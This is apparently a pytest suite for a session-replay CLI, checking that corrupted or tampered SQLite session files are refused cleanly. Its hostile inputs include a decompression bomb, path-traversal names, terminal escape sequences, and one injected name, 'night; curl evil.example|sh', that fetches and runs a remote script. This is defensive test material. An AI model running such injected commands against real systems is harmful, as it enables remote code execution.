"""Damaged session files: every command that reads one says so in a line and exits with 2, or reads what is there."""

import contextlib
import io
import json
import os
import random
import re
import shutil
import sqlite3
import time
import zlib
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.cli import main as cli
from orchestrator.cli.inspect import find_process
from orchestrator.cli.options import Options, Paths
from orchestrator.cli.wiring import hold_session
from orchestrator.session.store import Session, SessionError
from tests.hunting import try_examples
from tests.test_hostile_text import STEERING
from tests.workplace import ROOT

GOLDEN = [ROOT / f"tests/golden/{name}.db" for name in ("offline-3", "agents-2")]
READERS = (
    ["replay"],
    ["replay", "--show", "9"],
    ["replay", "--json"],
    ["report", "--out", "out"],
    ["compare", str(GOLDEN[0])],
    ["replay", "--verify"],
)
STARTERS = ["resume"], ["fork", "--at", "30"]
"""They end here at the latest where there is no repository."""
NAMES = "2026-11-25-quartz", "night"


@pytest.fixture(autouse=True)
def there(tmp_path):
    with contextlib.chdir(tmp_path):
        yield


def run(*words: str) -> tuple[int, str, str]:
    """Run a command in this process: exit code, stdout, stderr. Whatever else it raises is a traceback to a user."""
    out, err = io.StringIO(), io.StringIO()
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            cli.main(words)
    except SystemExit as end:
        return int(end.code or 0), out.getvalue(), err.getvalue()
    return 0, out.getvalue(), err.getvalue()


def read_everywhere(path: Path, readers=READERS) -> set[int]:
    """Read a file with every command; each answers, or says in one line what is wrong."""
    code, listed, err = run("--sessions", str(path.parent.parent), "sessions")
    assert code == 0, err
    assert path.parent.name in listed
    codes = set()
    for command, *options in readers:
        code, _, err = run(command, str(path), *options)
        assert code in {0, 2} or (code == 1 and "--verify" in options), err
        assert (code == 2) == (err != ""), err
        assert err.count("\n") == (code == 2), err
        assert "Traceback" not in err
        codes.add(code)
    return codes


def flip_bytes(luck: random.Random, path: Path) -> None:
    data = bytearray(path.read_bytes())
    for _ in range(luck.choice([1, 4, 64, 2000])):
        data[luck.randrange(len(data))] = luck.randrange(256)
    path.write_bytes(data)


def cut_off(luck: random.Random, path: Path) -> None:
    os.truncate(path, luck.randrange(path.stat().st_size))


def blank_a_page(luck: random.Random, path: Path) -> None:
    with path.open("r+b") as file:
        file.seek(4096 * luck.randrange(path.stat().st_size // 4096))
        file.write(luck.choice([bytes(4096), luck.randbytes(4096)]))


def repeat_pages(luck: random.Random, path: Path) -> None:
    data = path.read_bytes()
    pages = [data[at : at + 4096] for at in range(0, len(data), 4096)]
    path.write_bytes(pages[0] + b"".join(luck.choices(pages, k=len(pages) - 1)))


def edit_events(luck: random.Random, path: Path) -> None:
    """Change a field of some event to a value of another type, size or sign."""
    with contextlib.closing(sqlite3.connect(path)) as db:
        rows = db.execute("select seq, body from events").fetchall()
        for seq, body in luck.sample(rows, 3):
            fields = json.loads(body)
            values = [None, -1, 0, 1e308, 10**40, "", "../../x", "é" * 9, [], {}, True, {"kind": "kept"}, [[[]]]]
            fields[luck.choice(sorted(fields))] = luck.choice(values)
            db.execute("update events set body = ? where seq = ?", (json.dumps(fields), seq))
        db.commit()


def edit_columns(luck: random.Random, path: Path) -> None:
    statements = [
        "delete from events where seq = {n}",
        "delete from texts where rowid % 3 = 0",
        "update events set seq = -seq where seq > {n}",
        "update events set seq = seq + 1000000000 where seq > {n}",
        "update events set at = 1e300 where seq = {n}",
        "update events set at = 'soon' where seq = {n}",
        "update events set lane = x'ff00' where seq = {n}",
        "update events set body = x'ff00' where seq = {n}",
        "update events set body = '[1, 2]' where seq = {n}",
        "update events set body = replace(hex(zeroblob(50000)), '00', '[') where seq = {n}",
        "update events set body = (select body from events where seq = {n} - 1) where seq = {n}",
        "update texts set body = x'00'",
        "update texts set body = 'text'",
        "update texts set body = 5",
        "delete from texts",
    ]
    with contextlib.closing(sqlite3.connect(path)) as db:
        (count,) = db.execute("select count(*) from events").fetchone()
        db.execute(luck.choice(statements).format(n=luck.randrange(count)))
        db.commit()


DAMAGES = (flip_bytes, cut_off, blank_a_page, repeat_pages, edit_events, edit_columns)


def salvage_everywhere(path: Path) -> set[int]:
    """Read what is sound of a file; each command answers, or says in one line what is wrong."""
    codes = set()
    for words in (["replay", str(path)], ["report", str(path), "--out", "saved"]):
        code, _, err = run(*words, "--salvage")
        assert code in {0, 2}, err
        assert err.count("\n") <= 2, err  # what is damaged, and that nothing is left
        assert "Traceback" not in err
        codes.add(code)
    return codes


@pytest.mark.parametrize("damage", DAMAGES)
@pytest.mark.parametrize("seeds", [range(7), pytest.param(range(7, 200), marks=pytest.mark.soak)])
def test_no_damage_is_a_traceback(damage, seeds, tmp_path):
    refused = 0
    for seed in seeds:
        luck = random.Random(seed)
        folder = tmp_path / f"s{seed}" / NAMES[seed % 2]  # a `resume` in this process leaves its file open
        folder.mkdir(parents=True)
        path = Path(shutil.copyfile(GOLDEN[seed % 2], folder / "session.db"))
        damage(luck, path)
        readers = [*READERS[:3], READERS[3 + seed % 3], STARTERS[seed // 2 % 2]]  # the slow ones take turns
        if 2 in read_everywhere(path, readers):
            refused += 1
            salvage_everywhere(path)
    assert refused, "the damage is real"
    assert {item.name for item in tmp_path.iterdir()} <= {*(f"s{n}" for n in seeds), "out", "saved", "sessions"}


JUNK = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=9), inner, max_size=3),
    max_leaves=6,
)


@try_examples(25)
@given(where=st.integers(0), which=st.integers(0), value=JUNK, drop=st.booleans())
def test_any_value_in_any_field_is_read_or_refused_in_a_line(tmp_path, where, which, value, drop):
    path = Path(shutil.copyfile(GOLDEN[which % 2], tmp_path / "mailed.db"))
    with contextlib.closing(sqlite3.connect(path)) as db:
        rows = db.execute("select seq, body from events").fetchall()
        seq, body = rows[where % len(rows)]
        fields = json.loads(body)
        name = sorted(fields)[which % len(fields)]
        fields = {key: field for key, field in fields.items() if key != name} | ({} if drop else {name: value})
        db.execute("update events set body = ? where seq = ?", (json.dumps(fields), seq))
        db.commit()
    code, out, err = run("replay", str(path))
    assert code in {0, 2}
    assert err.count("\n") == (code == 2), err
    code, out, err = run("replay", str(path), "--salvage")
    assert code == 0 or seq == 0
    assert f"{len(rows)} events" in out or "is damaged" in err


def test_what_is_sound_of_a_damaged_file_is_read_when_asked(tmp_path):
    path = Path(shutil.copyfile(GOLDEN[1], tmp_path / "mailed.db"))
    with contextlib.closing(sqlite3.connect(path)) as db:
        db.execute("update events set body = '{}' where seq = 70")
        db.execute("update texts set body = x'00' where rowid % 2 = 0")
        db.commit()
    assert run("replay", str(path))[0] == 2

    code, out, err = run("replay", str(path), "--salvage")
    assert code == 0
    assert out.endswith("\n70 events\n")
    assert err.count("\n") == 1
    assert "event 70" in err
    code, _, err = run("report", str(path), "--out", "saved", "--salvage")
    assert code == 0, err
    assert f" fork {path} --at 70 --salvage<" in (tmp_path / "saved/report.html").read_text()


def test_what_is_sound_of_a_damaged_file_is_forked_when_asked(tmp_path):
    path = Path(shutil.copyfile(GOLDEN[0], tmp_path / "mailed.db"))
    script("update events set body = '{}' where seq = 50")(path)
    assert "is damaged: event 50" in run("fork", str(path), "--at", "50")[2]
    assert "has only 50 events" in run("fork", str(path), "--at", "51", "--salvage")[2]
    told, refused = run("fork", str(path), "--at", "50", "--salvage")[2].splitlines()
    assert "is damaged: event 50" in told
    assert "git repository" in refused  # after the checks of the file
    with contextlib.closing(Session(path, read_only=True, salvage=True)) as sound:
        sound.fork(tmp_path / "fork/session.db", 50).close()
    assert run("replay", "fork/session.db")[1].endswith("\n50 events\n")


def test_a_fork_of_a_damaged_file_has_the_texts_that_can_be_read(tmp_path):
    path = Path(shutil.copyfile(GOLDEN[1], tmp_path / "mailed.db"))
    with contextlib.closing(sqlite3.connect(path)) as db:
        (size,) = db.execute("pragma page_size").fetchone()
        texts = db.execute("select body from texts order by length(body)").fetchall()
    data = path.read_bytes()
    start = data.index(texts[0][0]) // size * size
    path.write_bytes(data[:start] + b"\xff" * size + data[start + size :])
    with contextlib.closing(Session(path, read_only=True, salvage=True)) as sound:
        fork = sound.fork(tmp_path / "fork/session.db", 50)
        fork.close()
        assert 0 < len(texts) - len(fork.packed) < 50
    with contextlib.closing(Session(path, read_only=True)) as sound, pytest.raises(SessionError, match="is damaged"):
        sound.fork(tmp_path / "other/session.db", 50)


@pytest.mark.parametrize("kind", ["started", "fitted", "committed", "promoted"])
@pytest.mark.parametrize(
    "name", ["HEAD", "--output=x", "0" * 40 + "\n", "HEAD\ncommit refs/heads/main\n# -g" + "0" * 40]
)
def test_nothing_but_a_hash_names_a_commit(kind, name, tmp_path):
    """It goes into git's command lines, and into the stream of its fast-import, which has lines of its own."""
    path = Path(shutil.copyfile(GOLDEN[0], tmp_path / "mailed.db"))
    with contextlib.closing(sqlite3.connect(path)) as db:
        db.execute("update events set body = json_set(body, '$.commit', ?) where kind = ?", (name, kind))
        db.commit()
    code, _, err = run("replay", str(path))
    assert (code, err.count("\n")) == (2, 1)
    assert "is damaged: event" in err


@pytest.mark.parametrize(("field", "value"), [("$.rule.later", True), ("$.kind", "later"), ("$.slots", 10**9)])
def test_a_session_whose_first_event_cannot_be_read_is_not_to_be_deleted(field, value, tmp_path):
    path = Path(shutil.copyfile(GOLDEN[1], tmp_path / "mailed.db"))
    with contextlib.closing(sqlite3.connect(path)) as db:
        db.execute("update events set body = json_set(body, ?, json(?)) where seq = 0", (field, json.dumps(value)))
        db.commit()
    for options in ([], ["--salvage"]):
        code, _, err = run("replay", str(path), *options)
        assert (code, err.count("\n"), len(err) < 400) == (2, 1, True), err
        assert "is damaged: event 0: " in err
        assert "delete" not in err
        assert ("was written by a newer Nightshift, or " in err) == ("later" in f"{field}{value}")


def script(statements: str):
    def damage(path: Path) -> None:
        with contextlib.closing(sqlite3.connect(path)) as db:
            db.executescript(statements)

    return damage


def bomb(path: Path) -> None:
    body = zlib.compress(bytes(200 << 20), 9)
    with contextlib.closing(sqlite3.connect(path)) as db:
        db.execute("update texts set body = ?", (body,))
        db.commit()


def grow(path: Path) -> None:
    with contextlib.closing(sqlite3.connect(path)) as db:
        db.execute("update events set body = zeroblob(80000000) where seq = 3")
        db.commit()


ENDLESS = "with recursive n(i) as (select 0 union all select i + 1 from n) select i seq, 0 at, '' lane, '' body from n"


@pytest.mark.parametrize(
    ("damage", "words"),
    [
        (script(f"drop table events; create view events as {ENDLESS}"), "not a session"),
        (script("alter table texts rename to t; create view texts as select * from t"), "not a session"),
        (script("create trigger t after insert on events begin delete from events; end"), "not a session"),
        (script("drop table texts"), "not a session"),
        (script("create table other (x); drop table events; drop table texts"), "not a session"),
        (script("pragma user_version = 0"), "not a session"),
        (script("pragma user_version = -5"), "not a session"),
        (script("pragma user_version = 99"), "newer"),
        (script("delete from events"), "no events"),
        (script("delete from events where seq = 0"), "event 1: the one before it is missing"),
        (
            script('update events set body = replace(body, \'"name":"\', \'"name":"../\') where seq = 0'),
            "cannot be the name of a session",
        ),
        (
            script("update events set body = json_set(body, '$.name', 'night; curl evil.example|sh') where seq = 0"),
            "cannot be the name of a session",
        ),
        (script("update events set body = json_set(body, '$.slots', 1000000001) where seq = 0"), "100000"),
        (script("update events set body = json_set(body, '$.limits.hours', 1e300) where seq = 0"), "1000000"),
        (
            script("update events set body = json_set(body, '$.experiment', 20000) where kind = 'proposed'"),
            "experiment 20000 cannot follow",
        ),
        (grow, "too big"),
        (lambda path: path.write_bytes(path.read_bytes().replace(b"lane text", b"l\xe3ne text")), "cannot be used"),
        (lambda path: path.write_bytes(b""), "not a session"),
        (lambda path: path.write_bytes(b"SQLite format 3\0"), ""),
        (lambda path: path.write_bytes(b"SQLite format 3\0" + bytes(5000)), ""),
    ],
)
def test_what_is_wrong_is_said_in_a_line(damage, words, tmp_path):
    path = Path(shutil.copyfile(GOLDEN[0], tmp_path / "mailed.db"))
    damage(path)
    for command, *options in READERS:
        code, _, err = run(command, str(path), *options)
        assert code == 2
        assert words in err
        assert err.count("\n") == 1


EVIL = "char(27, 155, 8238) || '[2J'"


@pytest.mark.parametrize(
    "change",
    [
        f"body = json_set(body, '$.kind', {EVIL}) where seq = 9",
        f"body = json_set(body, '$.name', {EVIL}) where seq = 0",
        f"body = json_set(body, '$.crew', {EVIL}, '$.style', {EVIL}) where seq = 0",
        f"body = json_set(body, '$.proposal.title', {EVIL}) where kind = 'proposed'",
        f"body = json_set(body, '$.reason', {EVIL}) where kind in ('kept', 'discarded')",
        f"lane = {EVIL} || lane where seq = 9",
        f"lane = {EVIL} where seq = 9",
    ],
)
def test_no_word_of_a_file_controls_a_terminal(change, tmp_path):
    path = Path(shutil.copyfile(GOLDEN[0], tmp_path / "mailed.db"))
    script(f"update events set {change}")(path)
    for command, *options in (*READERS, ["replay", "--salvage"], ["replay", "--json"]):
        _, out, err = run(command, str(path), *options)
        assert not STEERING.search(out + err), ascii(STEERING.findall(out + err))
        assert "Traceback" not in err
    for log in tmp_path.glob("out/*log*"):
        assert not STEERING.search(log.read_text()), log


def test_the_report_of_a_mailed_file_says_how_to_fork_it(tmp_path):
    shutil.copyfile(GOLDEN[0], tmp_path / "mailed.db")
    assert run("report", "mailed.db", "--out", "out")[0] == 0
    assert re.search(r'<pre class="copy">[^<]* fork mailed.db --at \d', (tmp_path / "out/report.html").read_text())


def test_a_style_for_a_session_without_models_is_refused(tmp_path):
    for path, code in zip(GOLDEN, (2, 0), strict=True):
        done = run("replay", str(path), "--verify", "--until", "1", "--prompts", "socratic")
        assert done[0] == code, done
        assert ("no model took part" in done[2]) == (code == 2)


def test_an_index_of_another_program_does_no_harm(tmp_path):
    path = Path(shutil.copyfile(GOLDEN[0], tmp_path / "mailed.db"))
    script("create index mine on events (kind); create table other (x)")(path)
    assert run("replay", str(path))[0] == 0


def test_a_text_that_unpacks_to_gigabytes_is_not_unpacked(tmp_path):
    path = Path(shutil.copyfile(GOLDEN[0], tmp_path / "mailed.db"))
    bomb(path)
    code, _, err = run("replay", str(path), "--show", "1")
    assert code == 2
    assert "larger than" in err


@pytest.mark.parametrize("where", ["project/backup.db", "backup.db", "project/session.db", "session.db", "../x.db"])
def test_only_a_session_in_a_folder_of_its_own_is_resumed(where, tmp_path):
    """It takes its requests, and removes runs/, beside the file: in any other folder these are not its own."""
    for path in ("here/project/control/1.json", "here/project/runs/x", "here/control/1.json", "here/runs/x"):
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).touch()
    with contextlib.chdir(tmp_path / "here"):
        data = Path(shutil.copyfile(GOLDEN[0], where)).read_bytes()
        before = sorted(tmp_path.rglob("*"))
        code, _, err = run("resume", where)
        assert (code, err.count("\n")) == (2, 1), err
        assert "has its files: fork it (" in err
        assert f" fork {where} --at 71 --hours " in err  # before its end, as it is over
        assert Path(where).read_bytes() == data
        assert sorted(tmp_path.rglob("*")) == before


def test_a_session_in_its_own_folder_is_found_by_any_path(tmp_path):
    folder = tmp_path / "s" / NAMES[0]
    folder.mkdir(parents=True)
    shutil.copyfile(GOLDEN[0], folder / "session.db")
    for at, where in ((folder, "session.db"), (tmp_path / "s", f"{NAMES[0]}/session.db"), (tmp_path, str(folder))):
        with contextlib.chdir(at):
            assert "git repository" in run("resume", where)[2]
    assert "is not 2026-11-25-quartz/session.db" in run("resume", str(folder.rename(tmp_path / "s/other")))[2]


@pytest.mark.parametrize("words", [*STARTERS, ["report"], ["replay"]])
@pytest.mark.parametrize("at", ["1e300", "9e999", "-1e300"])
def test_a_time_of_which_no_date_can_be_made_is_told_in_a_line(words, at, tmp_path):
    (tmp_path / "s/night").mkdir(parents=True)
    path = Path(shutil.copyfile(GOLDEN[1], tmp_path / "s/night/session.db"))
    script(f"update events set at = {at} where seq = 25")(path)
    code, _, err = run(words[0], str(path), *words[1:])
    assert (code, err.count("\n")) == (2, 1)
    assert "event 25" in err


@pytest.mark.parametrize("words", [*STARTERS, ["replay", "--verify"]])
@pytest.mark.parametrize(
    ("statement", "said"),
    [
        ("delete from texts", "is missing"),
        ("update texts set body = (select body from texts order by rowid desc limit 1)", "does not hash to its name"),
    ],
)
def test_a_text_that_is_missing_or_another_is_told_in_a_line(statement, said, words, tmp_path):
    (tmp_path / "s/night").mkdir(parents=True)
    path = Path(shutil.copyfile(GOLDEN[1], tmp_path / "s/night/session.db"))
    script(statement)(path)
    code, _, err = run(words[0], str(path), *words[1:])
    assert (code, err.count("\n")) == (2, 1)
    assert said in err
    code, out, _ = run("replay", str(path), "--show", "8", "--salvage")
    assert code == 0, out


def test_a_report_replaces_no_folder_of_another(tmp_path):
    path = str(shutil.copyfile(GOLDEN[0], tmp_path / "mailed.db"))
    for _ in range(2):
        assert run("report", path)[0] == 0, "the second time into what the first wrote"
    assert (tmp_path / NAMES[0] / "report.html").is_file()
    script("update events set body = json_set(body, '$.name', 'docs') where seq = 0")(Path(path))
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs/index.md").write_text("mine")
    code, _, err = run("report", path)
    assert (code, err.count("\n")) == (2, 1)
    assert "--out" in err
    assert [item.name for item in (tmp_path / "docs").iterdir()] == ["index.md"]
    script("update events set body = json_set(body, '$.name', '.git') where seq = 0")(Path(path))
    assert "cannot be the name of a session" in run("report", path)[2]
    assert not (tmp_path / ".git").exists()


def test_the_report_of_a_copy_leaves_the_musings_of_its_original(tmp_path):
    for name in ("night", "night-backup"):
        (tmp_path / "sessions" / name).mkdir(parents=True)
        shutil.copyfile(GOLDEN[1], tmp_path / "sessions" / name / "session.db")
    for name, pages in (("night-backup", "sessions/night-backup/musings"), ("night", "musings/night")):
        assert not (tmp_path / pages).exists()
        assert run("report", name)[0] == 0
        assert (tmp_path / pages / "index.md").is_file()
        assert (tmp_path / "sessions" / name / "report.html").is_file()
        assert (tmp_path / "musings").is_dir() == (name == "night")
    script("delete from events where seq > 60")(tmp_path / "sessions/night-backup/session.db")
    assert " fork sessions/night-backup/session.db --at 61" in run("sessions")[1]


@pytest.mark.parametrize("out", [[], ["--out", "sessions/night"], ["--out", "sessions/../sessions/night"]])
def test_a_report_writes_nothing_into_the_folder_of_a_night_that_runs(out, tmp_path):
    (tmp_path / "sessions/night").mkdir(parents=True)
    shutil.copyfile(GOLDEN[1], tmp_path / "sessions/night/session.db")
    paths, now = Paths(tmp_path / "sessions"), time.time()
    with hold_session(tmp_path / "sessions/night"):
        assert find_process(paths, "night", now) == os.getpid()
        assert "running already" in run("report", "night", *out)[2]
    assert not (tmp_path / "sessions/night/log.jsonl").exists()
    with hold_session(tmp_path / "sessions/night", runs=False):
        assert find_process(paths, "night", now) is None


def test_places_count_in_no_other_folder_than_the_one_they_were_written_in(tmp_path):
    (tmp_path / "s/night").mkdir(parents=True)
    shutil.copyfile(GOLDEN[1], tmp_path / "s/night/session.db")
    own = Options(unsafe=True, programs=["cli:claude"], data=Path("there"))
    own.remember(tmp_path / "s/night")
    assert Options().recall(tmp_path / "s/night") == replace(own, own=True)
    shutil.copytree(tmp_path / "s/night", tmp_path / "mailed/night")
    assert Options().recall(tmp_path / "mailed/night") == Options()
    for text in ('{"unsafe": true}', '{"type": "FeatureCollection"}', "[1]", "{", "\xff"):
        (tmp_path / "mailed/night/places.json").write_text(text, "latin-1")
        assert Options().recall(tmp_path / "mailed/night") == Options()
        for words in (["resume", "night", "--sessions", "mailed"], ["fork", "mailed/night/session.db", "--at", "9"]):
            _, _, err = run(*words)
            told, fault = err.splitlines()
            assert "mailed/night/places.json was not written by a night in this folder, so it is not read" in told
            assert "git repository" in fault

    odd = {"inode": (tmp_path / "s/night").stat().st_ino, "odd": 1}
    (tmp_path / "s/night/places.json").write_text(json.dumps(odd))
    shutil.copyfile(GOLDEN[1], tmp_path / "s/night/mailed.db")
    assert "is damaged: delete it" in run("fork", "s/night/session.db", "--at", "9")[2]
    assert "git repository" in run("fork", "s/night/mailed.db", "--at", "9")[2], "it came from elsewhere"


def test_what_is_no_file_is_not_opened(tmp_path):
    os.mkfifo("pipe.db")
    Path("folder.db").mkdir()
    Path("loop.db").symlink_to("loop.db")
    for name in ("pipe.db", "folder.db", "loop.db", "missing.db", "..", "-x", "a b", "é" * 300, "", "/"):
        code, _, err = run("replay", "--", name)
        assert code == 2
        assert err.count("\n") == 1, err


def snapshot(folder: Path) -> dict[str, tuple[int, int]]:
    return {path.name: (path.stat().st_mtime_ns, path.stat().st_size) for path in folder.rglob("*")}


@pytest.mark.parametrize("live", [False, True, None])
def test_readers_write_nothing_beside_the_file(live, tmp_path):
    """Of a night that is over, of one that is running, and of one whose -wal came along without its index."""
    folder = tmp_path / "sessions/night"
    folder.mkdir(parents=True)
    path = Path(shutil.copyfile(GOLDEN[0], folder / "session.db"))
    writer = sqlite3.connect(path)
    writer.execute("pragma journal_mode = wal")
    (last,) = writer.execute("select max(seq) from events").fetchone()
    if live is not False:
        writer.execute("pragma wal_autocheckpoint = 0")
        writer.execute("delete from events where seq = ?", (last,))
        writer.commit()
    if live is None:
        elsewhere = tmp_path / "elsewhere/night"
        elsewhere.mkdir(parents=True)
        for name in ("session.db", "session.db-wal"):
            shutil.copyfile(folder / name, elsewhere / name)
        folder = elsewhere
    if live is not True:
        writer.close()
    before = snapshot(folder)
    folder.chmod(0o555)
    try:
        for words in (
            ["sessions"],
            ["replay", "night"],
            ["report", "night", "--out", "out"],
            ["compare", "night", "night"],
        ):
            code, out, err = run("--sessions", str(folder.parent), *words)
            if words[0] == "compare":
                assert (folder.parent / "compare.html").exists()
            assert code == 0, err
            assert f"{last + (live is False)} events" in out or words[0] != "replay"
    finally:
        folder.chmod(0o755)
    after = snapshot(folder)
    if live:  # the index of a running night is shared memory
        before.pop("session.db-shm"), after.pop("session.db-shm")
    assert after == before


def test_a_wal_that_was_deleted_leaves_what_was_written_before(tmp_path):
    path = Path(shutil.copyfile(GOLDEN[0], tmp_path / "mailed.db"))
    with contextlib.closing(sqlite3.connect(path)) as writer:
        writer.execute("pragma journal_mode = wal")
        writer.execute("pragma wal_autocheckpoint = 0")
        writer.execute("delete from events where seq > 40")
        writer.commit()
        shutil.copyfile(path, tmp_path / "copy.db")
    (tmp_path / "copy.db").rename(path)
    code, out, _ = run("replay", str(path))
    assert code == 0
    assert "ended" in out
